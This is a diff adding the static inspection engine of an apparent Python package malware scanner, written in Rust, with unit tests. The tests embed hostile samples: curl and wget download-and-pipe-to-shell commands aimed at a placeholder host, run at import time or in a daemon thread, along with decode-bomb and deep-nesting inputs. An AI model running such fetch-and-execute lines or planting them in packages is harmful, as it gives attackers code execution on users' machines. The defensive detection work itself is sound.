@@ -1,12 +1,33 @@
 //! The static inspection engine: parse every Python file of an artifact once, run every rule
 //! over that one parse, and grade what the rules see by where the code runs (install time,
 //! import time, function body, tests). Nothing is ever executed.
+//!
+//! Flow: [`inspect`] classifies each entry (Python source, `.pth`, shell/batch/PowerShell
+//! script, native binary, other), builds a [`FileCx`] with the file's role and — for Python —
+//! the [`facts::Facts`] of one AST walk, then calls every enabled rule of
+//! [`registry::RULES`]. Files are processed in parallel with rayon. Each rule reports through
+//! an [`Emitter`], which keeps one finding per (rule, file, line), caps findings per rule and
+//! file, and attaches evidence (the source line plus any decoded text).
 
+pub mod context;
+pub mod decode;
+pub mod facts;
+pub mod patterns;
 pub mod registry;
 pub mod rules;
 
+use std::collections::{HashMap, HashSet};
+use std::sync::OnceLock;
+
+use rayon::prelude::*;
+
 use crate::archive::ArchiveContents;
-use crate::finding::Finding;
+use crate::catalog::RuleInfo;
+use crate::finding::{Confidence, Finding, Severity};
+use crate::package::ArtifactKind;
+
+use context::{FileRole, RunContext};
+use facts::{Facts, LineIndex};
 
 /// Options for one inspection run.
 #[derive(Debug, Clone, Default)]
@@ -15,9 +36,520 @@ pub struct InspectOptions {
     pub disabled: Vec<String>,
 }
 
+/// Most findings one rule reports for one file.
+pub const MAX_PER_RULE_PER_FILE: usize = 20;
+/// Python files larger than this are not parsed (only scanned as text).
+pub const MAX_PARSE_SIZE: usize = 8 << 20;
+/// Longest evidence line kept.
+const EVIDENCE_LEN: usize = 200;
+
+/// What kind of file an entry is, by name and content.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum FileKind {
+    Python,
+    Pth,
+    /// Shell, batch or PowerShell script (or a Makefile-like text with commands).
+    Script,
+    /// ELF, PE or Mach-O executable or library.
+    Binary(BinaryFormat),
+    /// Any other text file.
+    Text,
+    /// Any other binary data.
+    Data,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum BinaryFormat {
+    Elf,
+    Pe,
+    MachO,
+}
+
+impl BinaryFormat {
+    pub fn label(self) -> &'static str {
+        match self {
+            BinaryFormat::Elf => "ELF",
+            BinaryFormat::Pe => "PE (Windows)",
+            BinaryFormat::MachO => "Mach-O",
+        }
+    }
+}
+
+/// Detect a native executable by its magic number.
+pub fn binary_format(data: &[u8]) -> Option<BinaryFormat> {
+    if data.starts_with(b"\x7fELF") {
+        return Some(BinaryFormat::Elf);
+    }
+    if data.starts_with(b"MZ") && data.len() >= 0x40 {
+        let off = u32::from_le_bytes([data[0x3c], data[0x3d], data[0x3e], data[0x3f]]) as usize;
+        if data.get(off..off + 4) == Some(b"PE\0\0") {
+            return Some(BinaryFormat::Pe);
+        }
+    }
+    if data.len() >= 8 {
+        let magic = [data[0], data[1], data[2], data[3]];
+        match magic {
+            [0xfe, 0xed, 0xfa, 0xce | 0xcf] | [0xce | 0xcf, 0xfa, 0xed, 0xfe] => {
+                return Some(BinaryFormat::MachO)
+            }
+            [0xca, 0xfe, 0xba, 0xbe] => {
+                // Fat Mach-O (a Java class file shares the magic; its next field is a version).
+                let n = u32::from_be_bytes([data[4], data[5], data[6], data[7]]);
+                if (1..=20).contains(&n) {
+                    return Some(BinaryFormat::MachO);
+                }
+            }
+            _ => {}
+        }
+    }
+    None
+}
+
+fn file_kind(path: &str, data: &[u8]) -> FileKind {
+    let lower = path.to_ascii_lowercase();
+    if let Some(b) = binary_format(data) {
+        return FileKind::Binary(b);
+    }
+    if lower.ends_with(".py") || lower.ends_with(".pyw") || lower.ends_with(".pyi") {
+        return FileKind::Python;
+    }
+    if lower.ends_with(".pth") {
+        return FileKind::Pth;
+    }
+    const SCRIPT_EXT: &[&str] = &[
+        ".sh", ".bash", ".zsh", ".bat", ".cmd", ".ps1", ".psm1", ".vbs", ".command",
+    ];
+    if SCRIPT_EXT.iter().any(|e| lower.ends_with(e))
+        || data.starts_with(b"#!")
+            && !data.starts_with(b"#!/usr/bin/env python")
+            && !data.starts_with(b"#!/usr/bin/python")
+    {
+        return FileKind::Script;
+    }
+    if data.starts_with(b"#!") {
+        return FileKind::Python;
+    }
+    let head = &data[..data.len().min(4096)];
+    if memchr::memchr(0, head).is_some() {
+        FileKind::Data
+    } else {
+        FileKind::Text
+    }
+}
+
+/// Whether `site` executes this `.pth` line (it starts with `import` + space or tab).
+pub fn pth_line_runs(line: &str) -> bool {
+    line.starts_with("import ") || line.starts_with("import\t")
+}
+
+/// What a rule sees of one artifact as a whole.
+#[derive(Debug, Clone)]
+pub struct ArtifactCx {
+    pub filename: String,
+    pub kind: ArtifactKind,
+    /// A wheel tagged `none-any` (pure Python): native code has no business there.
+    pub pure_wheel: bool,
+}
+
+/// What a rule sees of one file.
+pub struct FileCx<'a> {
+    pub path: &'a str,
+    pub kind: FileKind,
+    pub role: FileRole,
+    /// The file as text (lossy for invalid UTF-8), when it is not binary data.
+    pub text: Option<&'a str>,
+    pub bytes: &'a [u8],
+    /// Facts of the one parse, for Python files.
+    pub facts: Option<&'a Facts>,
+    /// The file should also get a raw text pass (invalid UTF-8, syntax errors, too large).
+    pub raw_pass: bool,
+    pub lines: &'a LineIndex,
+    pub artifact: &'a ArtifactCx,
+}
+
+impl FileCx<'_> {
+    /// Run context of the file's top level.
+    pub fn top_ctx(&self) -> RunContext {
+        self.role.top_level()
+    }
+    /// Lines of the text with 1-based numbers.
+    pub fn text_lines(&self) -> impl Iterator<Item = (u32, &str)> {
+        self.text
+            .unwrap_or("")
+            .lines()
+            .enumerate()
+            .map(|(i, l)| (i as u32 + 1, l))
+    }
+    /// Whether the file's code does any network I/O (by calls), or names a network module.
+    pub fn has_network(&self) -> bool {
+        self.facts.is_some_and(|f| {
+            f.calls.iter().any(|c| c.is_network())
+                || f.imports_any(&[
+                    "socket",
+                    "requests",
+                    "urllib.request",
+                    "urllib2",
+                    "http.client",
+                    "httpx",
+                    "aiohttp",
+                    "smtplib",
+                    "ftplib",
+                    "discord_webhook",
+                    "dhooks",
+                ])
+                .is_some()
+        })
+    }
+}
+
+/// Collects one file's findings: one per (rule, line), at most
+/// [`MAX_PER_RULE_PER_FILE`] per rule.
+pub struct Emitter<'a> {
+    path: &'a str,
+    artifact: &'a str,
+    text: Option<&'a str>,
+    lines: &'a LineIndex,
+    seen: HashSet<(&'static str, u32)>,
+    per_rule: HashMap<&'static str, usize>,
+    pub findings: Vec<Finding>,
+}
+
+impl<'a> Emitter<'a> {
+    pub fn new(
+        path: &'a str,
+        artifact: &'a str,
+        text: Option<&'a str>,
+        lines: &'a LineIndex,
+    ) -> Self {
+        Self {
+            path,
+            artifact,
+            text,
+            lines,
+            seen: HashSet::new(),
+            per_rule: HashMap::new(),
+            findings: Vec::new(),
+        }
+    }
+
+    /// Report a finding at `line` (0 = whole file). `decoded` is added to the evidence.
+    pub fn emit(
+        &mut self,
+        rule: &'static RuleInfo,
+        severity: Severity,
+        confidence: Confidence,
+        line: u32,
+        message: impl Into<String>,
+        decoded: Option<&str>,
+    ) {
+        let message = crate::redact::redact_text(&message.into());
+        if !self.seen.insert((rule.id, line)) {
+            // Keep the worst severity for a line reported twice.
+            if let Some(f) = self
+                .findings
+                .iter_mut()
+                .find(|f| f.rule == rule.id && f.location.line == (line > 0).then_some(line))
+            {
+                if severity > f.severity {
+                    f.severity = severity;
+                    f.confidence = confidence;
+                    f.message = message;
+                }
+            }
+            return;
+        }
+        let count = self.per_rule.entry(rule.id).or_insert(0);
+        if *count >= MAX_PER_RULE_PER_FILE {
+            return;
+        }
+        *count += 1;
+        let mut evidence = String::new();
+        if line > 0 {
+            if let Some(text) = self.text {
+                evidence = patterns::excerpt(self.lines.line_text(text, line).trim(), EVIDENCE_LEN);
+            }
+        }
+        if let Some(d) = decoded {
+            if !evidence.is_empty() {
+                evidence.push('\n');
+            }
+            evidence.push_str("decoded: ");
+            evidence.push_str(&patterns::excerpt(d, EVIDENCE_LEN));
+        }
+        let mut f = Finding::new(rule.id, severity, confidence, message)
+            .at(self.path, (line > 0).then_some(line))
+            .in_artifact(self.artifact);
+        if !evidence.is_empty() {
+            f = f.with_evidence(crate::redact::redact_text(&evidence));
+        }
+        self.findings.push(f);
+    }
+}
+
+fn pool() -> Option<&'static rayon::ThreadPool> {
+    static POOL: OnceLock<Option<rayon::ThreadPool>> = OnceLock::new();
+    POOL.get_or_init(|| {
+        rayon::ThreadPoolBuilder::new()
+            .stack_size(64 << 20)
+            .thread_name(|i| format!("pyvet-inspect-{i}"))
+            .build()
+            .ok()
+    })
+    .as_ref()
+}
+
 /// Inspect one artifact's contents and return code findings (archive-level findings already in
 /// `contents.findings` are not repeated). The caller fills in package/version.
 pub fn inspect(contents: &ArchiveContents, opts: &InspectOptions) -> Vec<Finding> {
-    let _ = (contents, opts);
-    Vec::new()
+    let lower = contents.filename.to_ascii_lowercase();
+    let artifact = ArtifactCx {
+        filename: contents.filename.clone(),
+        kind: contents.kind,
+        pure_wheel: contents.kind == ArtifactKind::Wheel && lower.ends_with("-none-any.whl"),
+    };
+    let entries: Vec<(&str, &[u8])> = contents
+        .entries
+        .iter()
+        .map(|e| (e.path.as_str(), e.data.as_slice()))
+        .collect();
+    let backend = context::backend_dirs(&entries);
+    let enabled: Vec<&registry::Rule> = registry::RULES
+        .iter()
+        .filter(|r| !opts.disabled.iter().any(|d| d == r.info.id))
+        .collect();
+    let run = || -> Vec<Finding> {
+        contents
+            .entries
+            .par_iter()
+            .flat_map_iter(|e| inspect_file(&e.path, &e.data, &artifact, &backend, &enabled))
+            .collect()
+    };
+    let mut findings = match pool() {
+        Some(p) => p.install(run),
+        None => run(),
+    };
+    crate::finding::sort(&mut findings);
+    findings
+}
+
+/// Inspect a single file (exposed for benchmarks and tests).
+pub fn inspect_file(
+    path: &str,
+    data: &[u8],
+    artifact: &ArtifactCx,
+    backend: &HashSet<String>,
+    rules: &[&registry::Rule],
+) -> Vec<Finding> {
+    let kind = file_kind(path, data);
+    let role = context::file_role(path, artifact.kind, backend);
+    let (text, valid_utf8): (Option<std::borrow::Cow<str>>, bool) = match kind {
+        FileKind::Binary(_) | FileKind::Data => (None, false),
+        _ => match std::str::from_utf8(data) {
+            Ok(s) => (Some(std::borrow::Cow::Borrowed(s)), true),
+            Err(_) => (Some(String::from_utf8_lossy(data)), false),
+        },
+    };
+    let text_ref = text.as_deref();
+    let facts = match (kind, text_ref) {
+        (FileKind::Python, Some(t)) if t.len() <= MAX_PARSE_SIZE => Some(facts::collect(t, role)),
+        (FileKind::Pth, Some(t)) if t.len() <= MAX_PARSE_SIZE => {
+            // Only `import` lines of a .pth file run; keep line numbers by blanking the rest.
+            let code: String = t
+                .lines()
+                .map(|l| if pth_line_runs(l) { l } else { "" })
+                .collect::<Vec<_>>()
+                .join("\n");
+            Some(facts::collect(&code, role))
+        }
+        _ => None,
+    };
+    let raw_pass = match kind {
+        FileKind::Python => !valid_utf8 || facts.as_ref().is_none_or(|f| f.syntax_errors > 0),
+        FileKind::Text => false,
+        _ => false,
+    };
+    let lines = LineIndex::new(text_ref.unwrap_or(""));
+    let cx = FileCx {
+        path,
+        kind,
+        role,
+        text: text_ref,
+        bytes: data,
+        facts: facts.as_ref(),
+        raw_pass,
+        lines: &lines,
+        artifact,
+    };
+    let mut out = Emitter::new(path, &artifact.filename, text_ref, &lines);
+    for rule in rules {
+        (rule.check)(&cx, &mut out);
+    }
+    out.findings
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::inspect::rules::testutil::artifact;
+
+    fn run(files: &[(&str, &[u8])]) -> Vec<Finding> {
+        inspect(
+            &artifact("pkg-1.0-py3-none-any.whl", files),
+            &InspectOptions::default(),
+        )
+    }
+
+    #[test]
+    fn one_finding_per_rule_and_line_and_a_cap_per_file() {
+        let line = "import os; os.system('curl https://x.example.invalid | sh'); os.system('wget -qO- https://x.example.invalid | sh')\n";
+        let src = line.repeat(40);
+        let f = run(&[("pkg/__init__.py", src.as_bytes())]);
+        let sd: Vec<_> = f.iter().filter(|f| f.rule == "shell-downloader").collect();
+        assert_eq!(sd.len(), MAX_PER_RULE_PER_FILE);
+        let lines: HashSet<_> = sd.iter().map(|f| f.location.line).collect();
+        assert_eq!(lines.len(), sd.len());
+        assert!(sd
+            .iter()
+            .all(|f| f.artifact.as_deref() == Some("pkg-1.0-py3-none-any.whl")));
+        assert!(sd
+            .iter()
+            .all(|f| f.package.is_none() && f.version.is_none()));
+    }
+
+    #[test]
+    fn disabled_rules_are_skipped() {
+        let src = b"import os\nos.system('curl https://x.example.invalid | sh')\n";
+        let a = artifact("pkg-1.0-py3-none-any.whl", &[("pkg/__init__.py", src)]);
+        let opts = InspectOptions {
+            disabled: vec!["shell-downloader".into()],
+        };
+        assert!(inspect(&a, &opts)
+            .iter()
+            .all(|f| f.rule != "shell-downloader"));
+        assert!(inspect(&a, &InspectOptions::default())
+            .iter()
+            .any(|f| f.rule == "shell-downloader"));
+    }
+
+    #[test]
+    fn invalid_utf8_gets_a_raw_pass() {
+        let mut src =
+            b"# \xff\xfe broken\nimport os\nos.system('curl https://x.example.invalid/a | bash')\n"
+                .to_vec();
+        src.extend_from_slice(b"\xc3\x28\n");
+        let f = run(&[("pkg/__init__.py", &src)]);
+        assert!(
+            f.iter()
+                .any(|f| f.rule == "shell-downloader" && f.location.line == Some(3)),
+            "{f:?}"
+        );
+    }
+
+    #[test]
+    fn python2_files_still_yield_findings() {
+        let src = b"import os\nprint 'hi'\nos.system('curl https://x.example.invalid/a | sh')\n";
+        let f = run(&[("pkg/__init__.py", src)]);
+        assert!(f.iter().any(|f| f.rule == "shell-downloader"));
+    }
+
+    #[test]
+    fn hostile_input_does_not_panic() {
+        let deep = format!("x = {}1{}\n", "(".repeat(5000), ")".repeat(5000));
+        let nested: String = (0..300)
+            .map(|i| format!("{}if x:\n", " ".repeat(i)))
+            .collect::<String>()
+            + &" ".repeat(300)
+            + "pass\n";
+        let calls = format!("{}0{}", "f(".repeat(3000), ")".repeat(3000));
+        let lists = format!("''.join(chr(c) for c in [{}])", "104,".repeat(100_000));
+        let bomb = "import base64\nx = 'QUFB' * 10000000\nbase64.b64decode(x)\n";
+        let garbage: Vec<u8> = (0..20_000u32)
+            .map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8)
+            .collect();
+        let weird = "é = 'ü' * 3\ns = 'ab'\ns += 'cd'\ns += 1\nexec(s[::-1])\n'\u{10ffff}'[::-1]\nb'\\xff'.decode()\n";
+        let files: Vec<(&str, &[u8])> = vec![
+            ("pkg/deep.py", deep.as_bytes()),
+            ("pkg/nested.py", nested.as_bytes()),
+            ("pkg/calls.py", calls.as_bytes()),
+            ("pkg/lists.py", lists.as_bytes()),
+            ("pkg/bomb.py", bomb.as_bytes()),
+            ("pkg/garbage.py", &garbage),
+            ("pkg/garbage.pth", &garbage),
+            ("pkg/garbage.sh", &garbage),
+            ("pkg/weird.py", weird.as_bytes()),
+            ("pkg/empty.py", b""),
+            ("pkg/mz.exe", b"MZ\xff\xff\xff\xff"),
+        ];
+        let _ = run(&files);
+    }
+
+    #[test]
+    fn binary_magic() {
+        assert_eq!(binary_format(b"\x7fELF\x02"), Some(BinaryFormat::Elf));
+        assert_eq!(
+            binary_format(b"\xcf\xfa\xed\xfe\x07\0\0\x01"),
+            Some(BinaryFormat::MachO)
+        );
+        // A Java class file shares the fat Mach-O magic.
+        assert_eq!(binary_format(b"\xca\xfe\xba\xbe\0\0\0\x34"), None);
+        assert_eq!(binary_format(b"MZ"), None);
+    }
+
+    #[test]
+    fn context_grading_across_roles() {
+        let src = b"import os\nos.system('curl https://x.example.invalid/a | sh')\n";
+        let sev = |path: &str| {
+            run(&[(path, src)])
+                .into_iter()
+                .filter(|f| f.rule == "shell-downloader")
+                .map(|f| f.severity)
+                .max()
+        };
+        assert_eq!(sev("pkg/__init__.py"), Some(Severity::Critical));
+        assert_eq!(sev("pkg/tests/test_a.py"), Some(Severity::Low));
+        let in_fn =
+            b"import os\ndef f():\n    os.system('curl https://x.example.invalid/a | sh')\n";
+        let f = run(&[("pkg/a.py", in_fn)]);
+        assert!(f
+            .iter()
+            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::High));
+        let guarded = b"import os\nif __name__ == '__main__':\n    os.system('curl https://x.example.invalid/a | sh')\n";
+        let f = run(&[("pkg/a.py", guarded)]);
+        assert!(f
+            .iter()
+            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::High));
+    }
+
+    #[test]
+    fn functions_run_at_import_take_import_context() {
+        let src = b"import os\ndef _go():\n    os.system('curl https://x.example.invalid/a | sh')\ndef _later():\n    os.system('wget -qO- https://x.example.invalid/b | sh')\n_go()\n";
+        let f = run(&[("pkg/__init__.py", src)]);
+        let sev = |line| {
+            f.iter()
+                .find(|f| f.rule == "shell-downloader" && f.location.line == Some(line))
+                .map(|f| f.severity)
+        };
+        assert_eq!(sev(3), Some(Severity::Critical));
+        assert_eq!(sev(5), Some(Severity::High));
+        let thread = b"import os, threading\ndef _go():\n    os.system('curl https://x.example.invalid/a | sh')\nthreading.Thread(target=_go, daemon=True).start()\n";
+        let f = run(&[("pkg/__init__.py", thread)]);
+        assert!(f
+            .iter()
+            .any(|f| f.rule == "shell-downloader" && f.severity == Severity::Critical));
+    }
+
+    #[test]
+    fn credentials_in_urls_are_redacted_in_evidence() {
+        let src =
+            b"import requests\ndef f():\n    requests.get('https://user:hunter2@192.0.2.8/x')\n";
+        let f = run(&[("pkg/a.py", src)]);
+        assert!(!f.is_empty());
+        for x in &f {
+            assert!(
+                !x.evidence.as_deref().unwrap_or("").contains("hunter2"),
+                "{x:?}"
+            );
+            assert!(!x.message.contains("hunter2"), "{x:?}");
+        }
+    }
 }
